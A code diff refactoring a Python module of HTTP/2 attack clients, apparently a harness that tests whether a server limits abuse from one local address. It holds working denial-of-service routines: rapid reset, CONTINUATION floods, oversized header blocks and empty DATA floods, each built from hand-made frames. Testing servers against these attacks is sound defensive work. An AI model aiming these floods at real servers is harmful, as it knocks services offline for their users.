@@ -1,29 +1,17 @@
-"""A client of HTTP/2 that says what no library would: frames by hand, header blocks of static entries and literals."""
+"""Clients of HTTP/2 that mean harm, each as an attack that runs until its time is over."""
 import contextlib
 import socket
-import struct
+import sys
 import threading
 import time
+from pathlib import Path
 
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
-END_STREAM, END_HEADERS = 1, 4
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "hostile"))
+
+from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,  # noqa: E402
+                   call_headers, frame, literal, open_stream, settings)
+
 HARMFUL = "127.0.0.9"  # the address they come from: what one address may take is bounded, and others' share is their own
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-
-
-def frame(kind, flags, stream, payload=b""):
-    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
-
-
-def literal(name, value):
-    """A header that the peer's table takes up; both shorter than 127."""
-    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value
-
-
-def call_head(path, authority=b"edge"):
-    """POST of gRPC."""
-    return (b"\x83\x86" + b"\x44" + bytes([len(path)]) + path + b"\x41" + bytes([len(authority)]) + authority
-            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
 
 
 class Http2:
@@ -35,11 +23,11 @@ class Http2:
         if not reads:
             self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         self.socket.settimeout(5)
-        settings = b"" if window is None else struct.pack(">HI", 4, window)
+        greeting = PREFACE + (settings() if window is None else settings(window=window))
         try:
             self.socket.bind((HARMFUL, 0))
             self.socket.connect((host, int(port)))
-            self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
+            self.socket.sendall(greeting)
         except OSError:
             self.socket.close()
             raise
@@ -86,7 +74,7 @@ def rapid_reset(address, path):
             while time.monotonic() < end:
                 batch = b""
                 for _ in range(100):
-                    batch += frame(HEADERS, END_HEADERS, stream, call_head(path)) + frame(RST_STREAM, 0, stream, bytes(4))
+                    batch += open_stream(stream, path) + frame(RST_STREAM, 0, stream, bytes(4))
                     stream += 2
                 if not client.send(batch):
                     return
@@ -95,11 +83,11 @@ def rapid_reset(address, path):
 
 def continuation_flood(address, path):
     """A head that never ends."""
-    more = frame(CONTINUATION, 0, 1, literal(b"x-a", b"b" * 100) * 100) * 16
+    more = frame(CONTINUATION, 0, 1, literal("x-a", "b" * 100) * 100) * 16
 
     def attack(end):
         with Http2(address) as client:
-            client.send(frame(HEADERS, 0, 1, call_head(path)))
+            client.send(frame(HEADERS, 0, 1, call_headers(path)))
             while time.monotonic() < end and client.send(more):
                 pass
     return attack
@@ -113,7 +101,7 @@ def head_bomb(address, path):
         with Http2(address) as client:
             stream = 1
             while time.monotonic() < end:
-                if not client.send(frame(HEADERS, END_HEADERS, stream, call_head(path) + entry + b"\xbe" * 12_000)):
+                if not client.send(frame(HEADERS, END_HEADERS, stream, call_headers(path) + entry + b"\xbe" * 12_000)):
                     return
                 stream += 2
     return attack
@@ -135,7 +123,7 @@ def empty_data_flood(address, path):
     """A message that is sent as nothing, without end."""
     def attack(end):
         with Http2(address) as client:
-            client.send(frame(HEADERS, END_HEADERS, 1, call_head(path)))
+            client.send(open_stream(1, path))
             while time.monotonic() < end and client.send(frame(DATA, 0, 1) * 500):
                 pass
     return attack
